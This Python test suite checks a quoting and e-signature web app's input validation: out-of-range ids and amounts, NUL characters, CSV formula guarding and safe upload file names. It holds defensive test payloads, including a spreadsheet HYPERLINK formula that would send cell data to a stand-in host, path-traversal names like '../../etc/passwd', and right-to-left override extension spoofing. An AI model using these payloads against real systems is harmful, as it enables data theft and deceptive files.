"""Bounded input everywhere: out-of-range ids and numbers, formula cells in CSV exports, and
uploaded file names. Each refusal is a 4xx that names the problem and writes nothing; the
live tests run the real app, worker and SQLite store (one also on PostgreSQL)."""

from __future__ import annotations

import asyncio
import csv
import email.policy
import io
import re
from collections.abc import Iterator
from decimal import Decimal
from email import message_from_bytes
from email.message import EmailMessage

import httpx
import pytest
from aiosmtpd.controller import Controller
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from activities.mail import Mailer, SmtpConfig
from cpq.money import MAX_MINOR, MoneyError, to_minor
from dealdesk.devserver import free_port
from dealdesk.settings import Settings
from documents.csv_cells import FORMULA_START, read_cell, text_cell
from documents.filenames import MAX_LENGTH, safe_filename
from documents.quote_document import default_template
from store.blobs import BlobStore
from store.commerce import CatalogVersion, ProductDocument, QuoteAttachment, QuoteTemplate
from store.models import Account, AuditEvent, Envelope, OutboxMessage, Quote
from tests.cpq_support import Cast, cast
from tests.pdfs import contract_pdf
from tests.support import eventually
from tests.web_support import browser_session, quote_body, token_client
from web.downloads import content_disposition
from web.errors import Invalid
from web.params import form_amount, form_int

__all__ = ["cast"]
TOO_BIG = 2**63  # past any integer column
MAX_ID = 2**31 - 1  # ids are INTEGER columns: 32 bits on PostgreSQL
# A path and a right-to-left override ("bootfdp.jpg" shows as "bootgpj.pdf"); control
# characters too, though an HTTP client percent-encodes those in a multipart file name.
EVIL = "..\\..\\boot\u202egpj.pdf"
LINK = re.compile(r"/sign/([A-Za-z0-9_-]{20,})")


def counts(sessions: sessionmaker[Session]) -> dict[str, int]:
    """Rows that any of these requests could have written."""
    with sessions() as s:
        return {m.__name__: s.scalar(select(func.count()).select_from(m)) or 0 for m in (
            Quote, Account, Envelope, AuditEvent, CatalogVersion, QuoteAttachment,
            ProductDocument, QuoteTemplate)}


# ------------------------------------------------------------------ pure helpers
@pytest.mark.parametrize(("name", "safe"), [
    ("..\\..\\x", "x"), ("../../etc/passwd", "passwd"),
    ("invoice\u202efdp.exe", "invoicefdp.exe"), ("a\x00b\x1fc\x7f.pdf", "abc.pdf"),
    ("\u2066x\u2069.pdf\u200f", "x.pdf"), ("", "document"), (None, "document"),
    ("..", "document"), (" . ", "document"), ("C:\\Users\\me\\ok.pdf", "ok.pdf"),
    ("Zoë Ångström.pdf", "Zoë Ångström.pdf"),
])
def test_safe_filename_keeps_the_last_visible_component(name: str | None, safe: str) -> None:
    assert safe_filename(name) == safe


def test_safe_filename_bounds_long_names_and_keeps_the_extension() -> None:
    out = safe_filename("x" * 500 + ".pdf")
    assert len(out) <= MAX_LENGTH and out.endswith("….pdf")
    assert len(safe_filename("y" * 500)) == MAX_LENGTH


def test_content_disposition_has_a_utf8_name_and_an_ascii_fallback() -> None:
    header = content_disposition("Devis Zoë \u202e\"quoted\".pdf", "inline")
    assert header == ("inline; filename=\"Devis Zoe _quoted_.pdf\"; "
                      "filename*=UTF-8''Devis%20Zo%C3%AB%20%22quoted%22.pdf")
    assert content_disposition(EVIL) == ("attachment; filename=\"bootgpj.pdf\"; "
                                         "filename*=UTF-8''bootgpj.pdf")


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.test","x")', "+1", "-5", "@SUM(A1)", "\t=1", "\r=1", "'=1", "'",
    "plain", "", "a=b"])
def test_text_cells_are_guarded_and_read_back_unchanged(value: str) -> None:
    cell = text_cell(value)
    assert not cell.startswith(FORMULA_START)
    assert read_cell(cell) == value
    assert read_cell("'quoted by a person") == "'quoted by a person"  # not our guard


def test_amounts_are_bounded_before_any_arithmetic() -> None:
    assert to_minor("10,000,000,000,000.00", "USD") == MAX_MINOR
    for text in ("10000000000000.01", "1e999999999", "-1e20", "9" * 5000):
        with pytest.raises(MoneyError, match="out of range"):
            to_minor(text, "USD")
    assert form_amount(" 1,234.50 ", "min_amount") == 123_450
    assert form_int("", "qty", 1, 10) is None
    for bad in ("1e400", "nan", "inf", "-1", "²", "1" * 40):
        with pytest.raises(Invalid) as e:
            form_amount(bad, "min_amount")
        assert e.value.field == "min_amount"
    with pytest.raises(Invalid, match="from 1 to 10"):
        form_int("11", "qty", 1, 10)


# ------------------------------------------------------------------ ids and numbers
async def test_out_of_range_ids_are_422s_naming_the_parameter(
        live_url: str, cast: Cast, sessions: sessionmaker[Session]) -> None:
    rep = await token_client(live_url, cast.rep)
    admin = await token_client(live_url, cast.admin)
    qid = (await rep.post("/api/v1/quotes", json=quote_body(cast.account))).json()["id"]
    web, csrf = await browser_session(live_url, cast.rep)  # signing in is audited
    before = counts(sessions)
    for bad in (MAX_ID + 1, TOO_BIG, 2**64 + 7, 0, -1):
        for who, method, path, field in [
            (rep, "GET", "/api/v1/quotes/{}", "quote_id"),
            (rep, "PUT", "/api/v1/quotes/{}", "quote_id"),
            (rep, "POST", "/api/v1/quotes/{}/submit", "quote_id"),
            (rep, "GET", "/api/v1/quotes/{}/approvals", "quote_id"),
            (rep, "POST", "/api/v1/quotes/{}/items", "quote_id"),
            (rep, "DELETE", f"/api/v1/quotes/{qid}/items/{{}}", "position"),
            (rep, "POST", "/api/v1/quotes/{}/won", "quote_id"),
            (rep, "POST", "/api/v1/quotes/{}/document", "quote_id"),
            (rep, "GET", "/api/v1/envelopes/{}", "envelope_id"),
            (rep, "POST", "/api/v1/envelopes/{}/remind", "envelope_id"),
            (admin, "POST", "/api/v1/invoices/{}/status", "invoice_id"),
        ]:
            body = ({"selection": {"sku": "ANL-HUB"}} if path.endswith("items")
                    else {"status": "paid"} if "invoices" in path
                    else quote_body(cast.account) if method == "PUT" else None)
            r = await who.request(method, path.format(bad), json=body)
            assert r.status_code == 422, (path, bad, r.text)
            assert r.json()["field"] == field and field in r.json()["detail"]
    r = await rep.get(f"/api/v1/quotes/{MAX_ID}")  # in range, but nothing by that id
    assert r.status_code == 404 and r.json()["detail"] == f"no quote {MAX_ID}"
    for path in (f"/quotes/{TOO_BIG}", f"/quotes/{TOO_BIG}/build", f"/envelopes/{TOO_BIG}",
                 f"/invoices/{TOO_BIG}.pdf", f"/quotes/{qid}/build/configure?item={TOO_BIG}"):
        r = await web.get(path)
        assert r.status_code == 422 and "less than or equal to" in r.text, path
    r = await web.post(f"/away/{TOO_BIG}/delete", headers={"X-CSRF-Token": csrf})
    assert r.status_code == 422
    assert counts(sessions) == before
    for c in (rep, admin, web):
        await c.aclose()


async def test_out_of_range_amounts_and_missing_references_write_nothing(
        live_url: str, cast: Cast, sessions: sessionmaker[Session]) -> None:
    rep = await token_client(live_url, cast.rep)
    admin = await token_client(live_url, cast.admin)
    qid = (await rep.post("/api/v1/quotes", json=quote_body(cast.account))).json()["id"]
    before = counts(sessions)
    for field, value in [("list_amount", TOO_BIG), ("net_amount", MAX_MINOR + 1),
                         ("cost_amount", -1), ("term_months", 2**40),
                         ("account_id", TOO_BIG)]:
        r = await rep.post("/api/v1/quotes", json={**quote_body(cast.account), field: value})
        assert r.status_code == 422 and r.json()["field"] == field, r.text
    r = await rep.post("/api/v1/quotes", json=quote_body(MAX_ID))
    assert r.status_code == 422 and r.json() == {"detail": f"no account {MAX_ID}",
                                                 "field": "account_id"}
    for query, field in [("min_amount=1e400", "min_amount"), (f"max_amount={TOO_BIG}",
                                                              "max_amount")]:
        r = await rep.get(f"/api/v1/inbox?{query}")
        assert r.status_code == 422 and r.json()["field"] == field
    r = await admin.get(f"/api/v1/audit?after={2**64}")
    assert r.status_code == 422 and r.json()["field"] == "after"
    r = await rep.post("/api/v1/accounts", json={"name": "Nul\u0000 Corp"})
    assert r.status_code == 422 and "NUL character" in r.json()["detail"]
    for path, body in [("/api/v1/tasks/t/decision", {"decision": "approve", "comment": "\0"}),
                       ("/api/v1/envelopes/1/void", {"reason": "no\0"})]:  # bound for history
        r = await rep.post(path, json=body)
        assert r.status_code == 422 and "NUL character" in r.json()["detail"], r.text
    r = await admin.post("/api/v1/catalog", content='{"\\ud800": 1}',  # YAML reads the escape
                         headers={"Content-Type": "application/json"})
    assert r.status_code == 422 and "\ufffd" in r.json()["detail"]  # echoed, made encodable
    r = await rep.post(f"/api/v1/quotes/{qid}/items", json={
        "selection": {"sku": "ANL-HUB", "quantity": 10**30}})
    assert r.status_code == 422 and "quantity must be between 1 and 1,000,000" in r.text
    r = await rep.post(f"/api/v1/quotes/{qid}/items", json={
        "selection": {"sku": "ANL-HUB"}, "manual_discount_pct": "1e999999"})
    assert r.status_code == 422 and r.json()["field"] == "items[0].manual_discount_pct"
    pdf = {"document": ("msa.pdf", contract_pdf(1), "application/pdf")}
    for spec, field, words in [
        (f'"quote_id": {MAX_ID}', "spec.quote_id", f"no quote {MAX_ID}"),
        (f'"quote_id": {TOO_BIG}', "spec.quote_id", "less than or equal"),
        ('"quote_id": 0', "spec.quote_id", "greater than or equal"),
    ]:
        r = await rep.post("/api/v1/envelopes", files=pdf, data={"spec": (
            '{"title": "MSA", "recipients": [{"name": "Ann", "email": "ann@b.test"}], '
            + spec + "}")})
        assert r.status_code == 422 and r.json()["field"] == field, r.text
        assert words in r.json()["detail"]
    r = await rep.post("/api/v1/envelopes", files=pdf, data={"spec": (
        '{"title": "MSA", "recipients": [{"name": "Ann", "email": "ann@b.test", '
        '"page": 1000000, "box": [0, 0, 99999999999999999999, 1]}]}')})
    assert r.status_code == 422 and r.json()["field"].startswith("spec.recipients.0.")
    assert counts(sessions) == before
    await rep.aclose()
    await admin.aclose()


async def test_hand_parsed_form_fields_are_bounded(
        live_url: str, cast: Cast, sessions: sessionmaker[Session]) -> None:
    web, csrf = await browser_session(live_url, cast.rep)
    token = {"X-CSRF-Token": csrf}
    qid = (await web.post("/api/v1/quotes", headers=token,
                          json=quote_body(cast.account, net=0, list_amount=0))).json()["id"]
    before = counts(sessions)
    for value in ("1e400", "nan", "-5", "9" * 30):
        r = await web.get(f"/inbox?min_amount={value}")
        assert r.status_code == 422 and "min amount" in r.text, value
    htmx = {**token, "HX-Request": "true"}  # the builder's forms are htmx
    whole = "Enter a whole number from 1 to 1,000,000"
    for form, words in [({"sku": "ANL-HUB", "qty": "1" * 30}, whole),
                        ({"sku": "ANL-HUB", "qty": ""}, whole),
                        ({"sku": "ANL-HUB", "qty": "²"}, whole),
                        ({"sku": "ANL-HUB", "qty": "1", "item": "abc"}, "item: "),
                        ({"sku": "ANL-HUB", "qty": "1", "item": "9" * 25}, "item: "),
                        ({"sku": "ANL-HUB", "qty": "1", "discount": "1e999999"},
                         "Enter a percentage")]:
        for action in ("configure", "items"):  # a preview shows the problem at the field
            r = await web.post(f"/quotes/{qid}/build/{action}", headers=htmx, data=form)
            assert r.status_code in ((200, 422) if action == "configure" else (422,)), r.text
            assert words in r.text, (action, form, r.text[:300])
    pdf = {"document": ("msa.pdf", contract_pdf(1), "application/pdf")}
    base = {"title": "MSA", "r_name": "Ann", "r_email": "ann@b.test", "expires": "30"}
    for over, words in [({"remind": "inf"}, "remind: "), ({"remind": "nan"}, "remind: "),
                        ({"remind": "1e999"}, "remind: "), ({"quote_id": "²"}, "quote id"),
                        ({"quote_id": "9" * 30}, "quote id"), ({"expires": "9" * 5000},
                                                                "expiry")]:
        r = await web.post("/envelopes/new", headers=token, data={**base, **over}, files=pdf)
        assert r.status_code == 422 and words in r.text, over
    r = await web.get("/envelopes/new?quote_id=99999999999999999999999")
    assert r.status_code == 422
    r = await web.post("/away", headers=token, data={
        "delegate_email": cast.manager.email, "starts": "2030-01-01", "ends": "9999-12-31"})
    assert r.status_code == 422 and "ends" in r.text
    assert counts(sessions) == before
    await web.aclose()


# ------------------------------------------------------------------ CSV exports
async def test_csv_exports_neutralise_formulas_and_import_back_unchanged(
        live_url: str, cast: Cast, sessions: sessionmaker[Session]) -> None:
    admin = await token_client(live_url, cast.admin)
    evil = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    added = ("sku,name,family,unit,currency,list_price,cost\r\n"
             f'+EVIL,"{evil.replace(chr(34), chr(34) * 2)}",-5,@SUM(A1),USD,10.00,-0.00\r\n')
    r = await admin.put("/api/v1/catalog/products.csv", content=added)
    assert r.status_code == 200, r.text
    exported = (await admin.get("/api/v1/catalog/products.csv")).text
    row = next(r for r in csv.reader(io.StringIO(exported)) if "EVIL" in r[0])
    assert row == ["'+EVIL", "'" + evil, "'-5", "'@SUM(A1)", "USD", "10.00", "0.00"]
    version = (await admin.get("/api/v1/catalog")).json()["version"]
    r = await admin.put("/api/v1/catalog/products.csv", content=exported)
    assert r.status_code == 200 and r.json()["version"] == version + 1
    assert (await admin.get("/api/v1/catalog/products.csv")).text == exported  # round trip

    book = (await admin.get("/api/v1/price-books/Web store.csv")).text
    assert book.splitlines() == ["sku,price", "ANL-SEAT,95.00"]
    with_evil = book + "'+EVIL,-0.00\r\n"  # the guarded SKU as our export writes it
    r = await admin.put("/api/v1/price-books/Web store.csv", content=with_evil)
    assert r.status_code == 200, r.text
    again = (await admin.get("/api/v1/price-books/Web store.csv")).text
    assert again.splitlines() == ["sku,price", "'+EVIL,0.00", "ANL-SEAT,95.00"]

    before = counts(sessions)
    for bad, words in [(exported.replace("USD,10.00", "USD,-5.00"), "can't be negative"),
                       (exported.replace("USD,10.00", "USD,1e999999"), "out of range"),
                       ("sku,name\r\nX,Y\r\n", "needs the columns"),
                       (exported + '"' + "x" * 200_000 + '"\r\n', "can't be read")]:
        r = await admin.put("/api/v1/catalog/products.csv", content=bad)
        assert r.status_code == 422 and words in r.json()["detail"], r.text[:300]
        assert r.json()["field"] == "file"
    assert counts(sessions) == before
    web, _ = await browser_session(live_url, cast.admin)
    page_csv = await web.get("/catalog/products.csv")
    assert page_csv.text == exported
    assert page_csv.headers["content-type"].startswith("text/csv")
    assert "filename*=UTF-8''products.csv" in page_csv.headers["content-disposition"]
    await admin.aclose()
    await web.aclose()


# ------------------------------------------------------------------ file names
async def test_uploaded_names_are_safe_when_stored_shown_and_downloaded(
        live_url: str, cast: Cast, sessions: sessionmaker[Session]) -> None:
    rep = await token_client(live_url, cast.rep)
    web, csrf = await browser_session(live_url, cast.rep)
    admin, admin_csrf = await browser_session(live_url, cast.admin)
    qid = (await rep.post("/api/v1/quotes", json=quote_body(cast.account))).json()["id"]
    before = counts(sessions)
    r = await web.post(f"/quotes/{qid}/attachments", headers={"X-CSRF-Token": csrf},
                       files={"file": (EVIL, b"not a pdf", "application/pdf")})
    assert r.status_code == 422 and "bootgpj.pdf" in r.text and "\u202e" not in r.text
    r = await web.post("/verify", headers={"X-CSRF-Token": csrf},
                       files={"file": (EVIL, b"GIF89a", "application/pdf")})
    assert r.status_code == 422 and "bootgpj.pdf is not a PDF" in r.text
    assert counts(sessions) == before  # refused: nothing written

    r = await web.post(f"/quotes/{qid}/attachments", headers={"X-CSRF-Token": csrf},
                       files={"file": (EVIL, contract_pdf(1), "application/pdf")})
    assert r.status_code == 303, r.text
    r = await admin.post("/catalog/product-documents", headers={"X-CSRF-Token": admin_csrf},
                         data={"sku": "ANL-HUB"},
                         files={"file": (EVIL, contract_pdf(1), "application/pdf")})
    assert r.status_code == 303, r.text
    r = await admin.post("/catalog/quote-template", headers={"X-CSRF-Token": admin_csrf},
                         files={"file": ("..\\t\u202excod.docx", default_template(),
                                         "application/octet-stream")})
    assert r.status_code == 303, r.text
    with sessions() as s:
        assert s.scalars(select(QuoteAttachment.name)).all() == ["bootgpj.pdf"]
        assert s.scalars(select(ProductDocument.name)).all() == ["bootgpj.pdf"]
        assert s.scalars(select(QuoteTemplate.name)).all() == ["txcod.docx"]

    spec = '{"title": "MSA", "recipients": [{"name": "Ann Buyer", "email": "ann@b.test"}]}'
    r = await rep.post("/api/v1/envelopes", data={"spec": spec},
                       files={"document": (EVIL, contract_pdf(2), "application/pdf")})
    assert r.status_code == 201 and r.json()["document_name"] == "bootgpj.pdf"
    eid = r.json()["id"]
    token = await eventually(lambda: _link(sessions, "ann@b.test"), timeout=20)
    async with httpx.AsyncClient(base_url=live_url, timeout=30) as anon:
        page = await anon.get(f"/sign/{token}")
        assert page.status_code == 200 and "bootgpj.pdf" in page.text
        assert "\u202e" not in page.text and "..\\" not in page.text
        download = await anon.get(f"/sign/{token}/document.pdf")
        assert download.headers["content-disposition"] == (
            "attachment; filename=\"bootgpj.pdf\"; filename*=UTF-8''bootgpj.pdf")
    original = await web.get(f"/envelopes/{eid}/files/original.pdf")
    assert "filename*=UTF-8''bootgpj.pdf" in original.headers["content-disposition"]
    for c in (rep, web, admin):
        await c.aclose()


def _link(sessions: sessionmaker[Session], email: str) -> str | None:
    with sessions() as s:
        for body in s.scalars(select(OutboxMessage.body).where(OutboxMessage.to_addr == email)):
            if m := LINK.search(body):
                return m.group(1)
    return None


class _Inbox:
    def __init__(self) -> None:
        self.received: list[EmailMessage] = []

    async def handle_DATA(self, server: object, session: object, envelope: object) -> str:
        self.received.append(message_from_bytes(
            envelope.content, policy=email.policy.default))  # type: ignore[attr-defined]
        return "250 OK"


@pytest.fixture
def smtp() -> Iterator[tuple[_Inbox, int]]:
    inbox, port = _Inbox(), free_port()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    yield inbox, port
    controller.stop()


def test_mail_attachment_names_are_safe_whatever_the_row_holds(
        sessions: sessionmaker[Session], settings: Settings, smtp: tuple[_Inbox, int]) -> None:
    inbox, port = smtp
    blobs = BlobStore(settings.blob_dir)
    with sessions.begin() as s:  # as a row written before names were made safe would be
        s.add(OutboxMessage(message_key="old", to_addr="ann@b.test", subject="Signed",
                            body="Attached.", attachments=[{
                                "sha256": blobs.put(contract_pdf(1)),
                                "filename": EVIL.replace("gpj", "gpj\x07\r\n"),
                                "content_type": "application/pdf"}]))
    with sessions() as s:
        mid = s.scalar(select(OutboxMessage.id))
    assert mid is not None
    Mailer(sessions, SmtpConfig("127.0.0.1", port), blobs).deliver(mid)
    [mail] = inbox.received
    assert [p.get_filename() for p in mail.iter_attachments()] == ["bootgpj.pdf"]


# ------------------------------------------------------------------ concurrency, PostgreSQL
async def test_parallel_bad_and_good_requests_on_one_instance(
        live_url: str, cast: Cast, sessions: sessionmaker[Session]) -> None:
    """40 requests at once, half out of range: every bad one a 422, every good one served,
    nothing written by the bad ones; then 6 imports of one export at once, serialised."""
    rep = await token_client(live_url, cast.rep)
    admin = await token_client(live_url, cast.admin)
    qid = (await rep.post("/api/v1/quotes", json=quote_body(cast.account))).json()["id"]
    before = counts(sessions)
    bad = [rep.get(f"/api/v1/quotes/{TOO_BIG + n}") for n in range(10)] + [
        rep.post("/api/v1/quotes", json=quote_body(cast.account, list_amount=TOO_BIG + n))
        for n in range(10)]
    good = [rep.get(f"/api/v1/quotes/{qid}") for _ in range(20)]
    answers = await asyncio.gather(*bad, *good)
    assert [a.status_code for a in answers] == [422] * 20 + [200] * 20
    assert counts(sessions) == before
    exported = (await admin.get("/api/v1/catalog/products.csv")).text
    version = (await admin.get("/api/v1/catalog")).json()["version"]
    imports = await asyncio.gather(*(admin.put("/api/v1/catalog/products.csv",
                                               content=exported) for _ in range(6)))
    assert sorted(r.json()["version"] for r in imports) == list(range(version + 1,
                                                                       version + 7))
    assert (await admin.get("/api/v1/catalog/products.csv")).text == exported
    await rep.aclose()
    await admin.aclose()


@pytest.mark.postgres
async def test_out_of_range_ids_and_amounts_on_postgresql(
        live_url: str, cast: Cast, sessions: sessionmaker[Session]) -> None:
    """PostgreSQL's ids are 32-bit INTEGERs: one past 2^31-1 is refused by name before it
    can reach a query; amounts past the bound never reach a BIGINT column."""
    rep = await token_client(live_url, cast.rep)
    before = counts(sessions)
    assert (await rep.get(f"/api/v1/quotes/{MAX_ID}")).status_code == 404
    for path in (f"/api/v1/quotes/{MAX_ID + 1}", f"/api/v1/envelopes/{2**40}",
                 f"/api/v1/quotes/{TOO_BIG}"):
        r = await rep.get(path)
        assert r.status_code == 422 and r.json()["field"] in ("quote_id", "envelope_id")
    r = await rep.post("/api/v1/quotes", json=quote_body(MAX_ID + 1))
    assert r.status_code == 422 and r.json()["field"] == "account_id"
    r = await rep.post("/api/v1/quotes", json=quote_body(MAX_ID))
    assert r.status_code == 422 and r.json()["detail"] == f"no account {MAX_ID}"
    r = await rep.post("/api/v1/quotes", json=quote_body(cast.account, list_amount=TOO_BIG))
    assert r.status_code == 422 and r.json()["field"] == "list_amount"
    r = await rep.get(f"/api/v1/inbox?min_amount={Decimal(MAX_MINOR) + 1}")
    assert r.status_code == 422
    for escaped in ("Nul\\u0000 Corp", "\\ud800 half a pair"):  # no database holds either
        r = await rep.post("/api/v1/accounts", content=f'{{"name": "{escaped}"}}',
                           headers={"Content-Type": "application/json"})
        assert r.status_code == 422 and re.search("NUL character|valid string",
                                                  r.json()["detail"])
    r = await rep.get("/api/v1/tasks/nul%00id")
    assert r.status_code == 422 and "NUL character" in r.json()["detail"]
    assert counts(sessions) == before
    await rep.aclose()
